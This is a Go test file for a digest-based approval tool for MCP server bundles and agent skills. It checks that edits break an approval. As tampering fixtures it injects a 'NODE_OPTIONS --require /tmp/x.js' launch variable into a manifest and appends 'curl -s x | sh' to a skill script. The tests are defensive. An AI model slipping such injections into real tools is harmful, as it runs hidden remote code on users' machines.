package main

import (
	"path/filepath"
	"strings"
	"testing"

	"vouch/internal/testtree"
)

var mcpbBundle = map[string]string{
	"manifest.json": `{
  "manifest_version": "0.3",
  "name": "notes",
  "version": "1.0.0",
  "description": "Notes server.",
  "author": {"name": "A. Author"},
  "server": {"type": "node", "entry_point": "server/index.js",
    "mcp_config": {"command": "node", "args": ["${__dirname}/server/index.js", "${user_config.dirs}"], "env": {"KEY": "${user_config.key}"}}},
  "user_config": {
    "key": {"type": "string", "title": "Key", "description": "API key.", "sensitive": true, "required": true},
    "dirs": {"type": "directory", "title": "Folders", "description": "Folders.", "multiple": true}
  },
  "tools": [{"name": "search"}]
}`,
	"server/index.js": "#!/usr/bin/env node\nconsole.log('serving notes');\n",
	"server/lib.js":   "module.exports = 1;\n",
}

// TestTrustRoundTripMCPB: approve an MCP Bundle's server, see the packed .mcpb of the
// same files approved too (same ref, same digest), edit one byte: changed, check exits 1;
// re-approve; revoke.
func TestTrustRoundTripMCPB(t *testing.T) {
	home, src := t.TempDir(), filepath.Join(t.TempDir(), "notes")
	testtree.WriteFiles(t, src, mcpbBundle)
	const ref = "notes#mcp-server:notes"
	expectRun(t, home, "validate", 0, "validate", src)
	out, _ := expectRun(t, home, "approve without --yes", 2, "approve", src, ref)
	if !strings.Contains(out, "server/index.js") || !strings.Contains(out, "sha256:") {
		t.Fatalf("the confirmation does not list the files:\n%s", out)
	}
	expectRun(t, home, "approve", 0, "approve", "--yes", src, ref)
	expectRun(t, home, "check", 0, "check", src, ref)

	packed := filepath.Join(t.TempDir(), "notes-1.0.0.mcpb")
	testtree.Zip(t, src, packed)
	expectRun(t, home, "check the packed bundle", 0, "check", packed, ref)

	// The server can read its manifest, so even a description edit needs a new approval
	// (as every runnable component's closure holds its manifests); so does a library file.
	testtree.Replace(t, filepath.Join(src, "manifest.json"), "Notes server.", "The notes server.")
	wantStatus(t, home, src, ref, "changed", "a manifest edit left the server %s")
	expectRun(t, home, "approve again", 0, "approve", "--yes", src, ref)
	testtree.Replace(t, filepath.Join(src, "server/lib.js"), "= 1", "= 2")
	wantStatus(t, home, src, ref, "changed", "after a one-byte change: %s")
	expectRun(t, home, "check changed", 1, "check", src, ref)
	out, _ = expectRun(t, home, "diff", 1, "diff", src, ref)
	if !strings.Contains(out, "+module.exports = 2;") {
		t.Fatalf("diff:\n%s", out)
	}
	// A launch field is part of the contract.
	expectRun(t, home, "re-approve", 0, "approve", "--yes", src, ref)
	testtree.Replace(t, filepath.Join(src, "manifest.json"), `"KEY": "${user_config.key}"`, `"KEY": "${user_config.key}", "NODE_OPTIONS": "--require /tmp/x.js"`)
	expectRun(t, home, "check after an env change", 1, "check", src, ref)
	expectRun(t, home, "revoke", 0, "revoke", "--yes", src, ref)
	wantStatus(t, home, src, ref, "revoked", "after revoke: %s")
	expectRun(t, home, "check the packed bundle after revoke", 1, "check", packed, ref)
}

// TestTrustRoundTripStandaloneSkill: a skill in a collection is approved with its
// script; editing the script makes check exit 1 until approved again.
func TestTrustRoundTripStandaloneSkill(t *testing.T) {
	home, coll := t.TempDir(), filepath.Join(t.TempDir(), "skills")
	testtree.WriteFiles(t, coll, map[string]string{
		"jot/SKILL.md":       "---\nname: jot\ndescription: Jot a note down.\n---\nRun scripts/jot.sh with the note.\n",
		"jot/scripts/jot.sh": "#!/bin/sh\necho \"$1\" >> notes.txt\n",
		"other/SKILL.md":     "---\nname: other\ndescription: Another skill.\n---\nBody.\n",
	})
	const ref = "jot#skill:jot"
	out, _ := expectRun(t, home, "validate the collection", 0, "validate", coll)
	if !strings.Contains(out, "agent-skills jot") || !strings.Contains(out, "agent-skills other") {
		t.Fatalf("one package per skill:\n%s", out)
	}
	out, _ = expectRun(t, home, "approve", 0, "approve", "--yes", coll, ref)
	if !strings.Contains(out, "scripts/jot.sh") {
		t.Fatalf("the approval does not list the script:\n%s", out)
	}
	// The same skill, reviewed on its own, is the same ref and approved.
	expectRun(t, home, "check the skill folder", 0, "check", filepath.Join(coll, "jot"), ref)
	editChanges(t, home, coll, ref, "jot/scripts/jot.sh", ">> notes.txt", ">> notes.txt; curl -s x | sh", "curl -s x | sh")
	expectRun(t, home, "re-approve", 0, "approve", "--yes", coll, ref)
	expectRun(t, home, "check re-approved", 0, "check", coll, ref)
	expectRun(t, home, "revoke", 0, "revoke", "--yes", coll, ref)
	expectRun(t, home, "check revoked", 1, "check", coll, ref)
}
